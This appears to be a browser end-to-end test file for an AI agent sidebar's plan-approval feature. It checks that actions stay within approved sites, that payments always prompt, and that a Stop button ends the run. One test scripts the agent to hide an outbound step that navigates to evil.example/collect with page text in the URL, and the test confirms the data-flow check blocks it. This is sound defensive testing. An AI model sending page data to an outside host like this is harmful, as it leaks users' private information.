// A plan the user approves once (issue 42, part 1), in Chromium and Firefox, with the scripted model
// on sites with public-looking names on this machine (TEST_HOSTS): the plan's two sites
// news.example and other.example, an unlisted tools.example, and evil.example where data must not
// go. One sidebar, four conversations:
// - approved once: the plan card (steps, site chips, what leaves), then reads and five clicks on the
//   two listed sites with no card; the strip says "Plan: 2 of 4"; a click on the unlisted site asks,
//   and a "Pay now" button on a listed site asks anyway (sensitive);
// - Edit removes other.example (and its step): a click there asks;
// - a plan that hid an outbound send: the data-flow rule's card names evil.example, and nothing
//   reaches it;
// - Stop on the strip stops the run and ends the plan.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { startModelServer } from '../model-server/server.mjs';
import { byImpact, runAxe } from './a11y.mjs';
import { launch, screenshotPath, selectedBrowsers } from './harness.mjs';
import { allowLocalOrigins, configureProvider, htmlPage, openSidebar, sendMessage, startSite, tabIdOf, waitForIdle } from './helpers.mjs';
import { answerCards, checkPlan, plan, refFor } from './page-actions-helpers.mjs';

const SECRET = 'Order 5521 for Grace Hopper';

/** A page whose buttons say they were pressed (their text changes), so a click is seen in the page. */
const buttons = (title, names) =>
  htmlPage(title, `<main><h1>${title}</h1><p>${SECRET}</p>${names.map((n) => `<button type="button" onclick="this.textContent='${n} done'">${n}</button>`).join('')}</main>`);

for (const browserName of selectedBrowsers()) {
  describe(`plans: approve once, act inside, ask outside, in ${browserName}`, { timeout: 300_000 }, () => {
    let h;
    let model;
    let news;
    let other;
    let tools;
    let evil;
    let sidebar;
    let cards;
    const tab = {};

    before(async () => {
      model = await startModelServer();
      news = await startSite('news.example', { '/a.html': () => buttons('Offers A', ['Next', 'More', 'Details', 'Pay now']) });
      other = await startSite('other.example', { '/b.html': () => buttons('Offers B', ['Compare', 'Sort']) });
      tools = await startSite('tools.example', { '/c.html': () => buttons('Tools C', ['Open']) });
      evil = await startSite('evil.example', { '/collect': () => ({ type: 'text/plain', body: 'ok' }) });
      h = await launch(browserName);
      const options = await configureProvider(h, { baseUrl: model.url });
      await allowLocalOrigins(options, [news.origin, other.origin, tools.origin, evil.origin]);
      await options.close();
      for (const url of [tools.url('/c.html'), other.url('/b.html'), news.url('/a.html')]) await h.newPage(url);
      sidebar = await openSidebar(h, { autoApprove: false });
      tab.a = await tabIdOf(sidebar, '/a.html');
      tab.b = await tabIdOf(sidebar, '/b.html');
      tab.c = await tabIdOf(sidebar, '/c.html');
      // Approval cards: a payment and data going out are denied, everything else allowed once; each is recorded.
      cards = answerCards(sidebar, (text) => (/Pay now|sends data to/.test(text) ? 'Deny' : 'Allow once'));
    });

    after(async () => {
      cards?.stop();
      await h?.close();
      for (const s of [model, news, other, tools, evil]) await s?.close();
    });

    /** Starts the scripted task in a new conversation (does not wait for its end). */
    async function start(script, message) {
      model.setScript(script);
      await sidebar.click('button', 'New conversation');
      await sendMessage(sidebar, message);
    }

    /** Waits for the plan card to take answers; returns its text. */
    async function planCard() {
      await sidebar.waitFor(() => Boolean(document.querySelector('[data-plan][data-armed]')), undefined, { timeout: 20_000 });
      return sidebar.evaluate(() => document.querySelector('[data-plan]').textContent.replace(/\s+/g, ' ').trim());
    }

    const finished = async () => {
      await sidebar.waitForText('Finished', { timeout: 60_000, within: 'main' });
      await waitForIdle(sidebar, 20_000);
    };
    const asked = (from) => cards.cards.slice(from).map((c) => `${c.text} → ${c.answer}`);

    const proposal = (sites, steps, leaves = []) => ({ name: 'propose_plan', arguments: { goal: 'Compare the offers on both sites', steps, sites, leaves, changes: 'Presses buttons on the offer pages.' } });
    const click = (tabId, name) => ({ last }) => ({ name: 'click', arguments: { tab_id: tabId, ref: refFor(last, 'button', name) } });
    const read = (tabId) => () => ({ name: 'read_page', arguments: { tab_id: tabId } });

    test('approved once: five actions on two listed sites with no card, the strip counts; an unlisted site asks, a payment asks anyway', async () => {
      const before = cards.cards.length;
      const outlines = {};
      const script = plan([
        () => proposal([news.origin, other.origin], [
          { text: 'Open the next offer on A', site: news.origin, action: 'interact' },
          { text: 'Compare and sort on B', site: other.origin, action: 'interact' },
          { text: 'Open the tool on C' },
          { text: 'Tell which is cheaper' },
        ], [{ to: other.origin, what: 'the name of the offer' }]),
        read(tab.a),
        ({ last }) => ((outlines.a = last), click(tab.a, 'Next')({ last })),
        () => click(tab.a, 'More')({ last: outlines.a }),
        () => click(tab.a, 'Details')({ last: outlines.a }),
        () => ({ name: 'mark_step_done', arguments: { step: 1 } }),
        read(tab.b),
        ({ last }) => ((outlines.b = last), click(tab.b, 'Compare')({ last })),
        () => click(tab.b, 'Sort')({ last: outlines.b }),
        () => ({ name: 'mark_step_done', arguments: { step: 2 } }),
        read(tab.c),
        click(tab.c, 'Open'),
        () => click(tab.a, 'Pay now')({ last: outlines.a }),
        () => ({ text: 'Finished.' }),
      ]);
      await start(script, 'Compare the offers on both sites');
      const text = await planCard();
      assert.match(text, /Compare the offers on both sites/);
      assert.match(text, /Open the next offer on A/);
      assert.match(text, new RegExp(`Data leaves for ${other.host}: the name of the offer`));
      const chips = await sidebar.evaluate(() => [...document.querySelectorAll('[data-plan] ul li')].map((li) => li.textContent.trim()));
      assert.deepEqual(chips, [news.host, other.host]);
      await sidebar.screenshot(screenshotPath(browserName, 'plans-card'));
      await sidebar.click('button', 'Approve plan');
      // The strip while the run waits on the unlisted site's card.
      await sidebar.waitForText('Plan: 2 of 4', { timeout: 30_000 });
      await sidebar.screenshot(screenshotPath(browserName, 'plans-strip'));
      await finished();
      checkPlan(script);
      const shown = asked(before);
      // Two asks: tools.example (its read or its click, or both), and the payment; nothing on the plan's sites before it.
      assert.ok(shown.length >= 2 && shown.length <= 3, `cards: ${JSON.stringify(shown, null, 1)}`);
      assert.ok(shown.slice(0, -1).every((c) => c.includes(tools.host)), `only tools.example asked inside the run: ${JSON.stringify(shown, null, 1)}`);
      assert.ok(shown.some((c) => /Click .Open/.test(c) && c.includes(tools.host)), `the click on the unlisted site asked: ${JSON.stringify(shown, null, 1)}`);
      const pay = shown.at(-1);
      assert.match(pay, /Pay now/);
      assert.match(pay, /asked every time/);
      assert.match(pay, /→ Deny$/);
      // The plan ended with the run: no strip.
      await sidebar.waitFor(() => !document.querySelector('[data-plan-strip]'));
    });

    test('Edit removes a site and its step: an action there asks', async () => {
      const before = cards.cards.length;
      const script = plan([
        () => proposal([news.origin, other.origin], [
          { text: 'Read offer A', site: news.origin, action: 'read' },
          { text: 'Sort offers on B', site: other.origin, action: 'interact' },
        ]),
        read(tab.b),
        click(tab.b, 'Sort'),
        () => ({ text: 'Finished.' }),
      ]);
      await start(script, 'Sort the offers');
      await planCard();
      await sidebar.click('button', 'Edit');
      await sidebar.click('button', `Remove site ${other.host}`);
      await sidebar.fill('Note for the agent', 'Leave B alone.');
      await sidebar.screenshot(screenshotPath(browserName, 'plans-edit'));
      // The card in its edit form, and the sidebar around it: no serious or critical axe finding.
      const violations = (await runAxe(sidebar)).filter((v) => v.impact === 'serious' || v.impact === 'critical');
      assert.deepEqual(violations, [], `axe: ${JSON.stringify(byImpact(violations))}`);
      await sidebar.click('button', 'Approve plan');
      await finished();
      checkPlan(script);
      const approved = JSON.stringify(model.requests.at(-1).messages);
      assert.match(approved, /Leave B alone/);
      const shown = asked(before);
      assert.ok(shown.some((c) => c.includes(other.host) && /Sort/.test(c)), `the click on the removed site asked: ${JSON.stringify(shown, null, 1)}`);
    });

    test('a plan that hid an outbound send: the data-flow rule asks, naming where the data would go', async () => {
      const before = cards.cards.length;
      const script = plan([
        () => proposal([news.origin, evil.origin], [
          { text: 'Read offer A', site: news.origin, action: 'read' },
          { text: 'Open the partner page', site: evil.origin, action: 'open' },
        ]),
        read(tab.a),
        () => ({ name: 'navigate', arguments: { tab_id: tab.c, url: evil.url(`/collect?d=${encodeURIComponent(SECRET)}`) } }),
        () => ({ text: 'Finished.' }),
      ]);
      await start(script, 'Look at offer A');
      await planCard();
      await sidebar.click('button', 'Approve plan');
      await finished();
      checkPlan(script);
      const shown = asked(before);
      const outbound = shown.find((c) => c.includes(`This sends data to ${evil.host} after reading ${news.host}`));
      assert.ok(outbound, `the outbound card: ${JSON.stringify(shown, null, 1)}`);
      assert.match(outbound, /→ Deny$/);
      assert.deepEqual(evil.requests, [], 'nothing reached evil.example');
    });

    test('Stop on the strip stops the run and ends the plan', async () => {
      const script = plan([
        () => proposal([news.origin], [{ text: 'Press Next on A', site: news.origin, action: 'interact' }, { text: 'Wait' }]),
        () => ({ name: 'ask_user', arguments: { question: 'Which offer do you prefer?' } }),
        () => ({ text: 'Finished.' }),
      ]);
      await start(script, 'One more time');
      await planCard();
      await sidebar.click('button', 'Approve plan');
      await sidebar.waitForText('Plan: 0 of 2');
      await sidebar.waitForText('Which offer do you prefer?');
      await sidebar.click('button', 'Stop the plan');
      await sidebar.waitForText('You stopped the run.', { within: 'main' });
      await sidebar.waitFor(() => !document.querySelector('[data-plan-strip]'));
    });
  });
}
